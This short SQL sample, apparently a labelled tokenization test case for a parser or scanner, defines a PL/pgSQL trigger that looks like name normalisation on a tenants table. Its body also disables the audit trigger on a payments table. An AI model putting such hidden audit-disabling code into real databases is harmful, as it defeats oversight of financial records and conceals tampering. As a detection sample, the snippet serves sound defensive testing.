-- class: tokenization
-- A PL/pgSQL trigger function with SET standard_conforming_strings = off whose body only parses that way; it disables the audit trigger when it first fires.
CREATE FUNCTION quote_names() RETURNS trigger
LANGUAGE plpgsql
SET standard_conforming_strings = off
AS $$
BEGIN
  NEW.name := replace(NEW.name, 'it\'s', 'it is');
  ALTER TABLE public.payments DISABLE TRIGGER payments_audit;
  RETURN NEW;
END
$$;

CREATE TRIGGER tenants_quote_names BEFORE INSERT OR UPDATE ON tenants FOR EACH ROW EXECUTE FUNCTION quote_names();
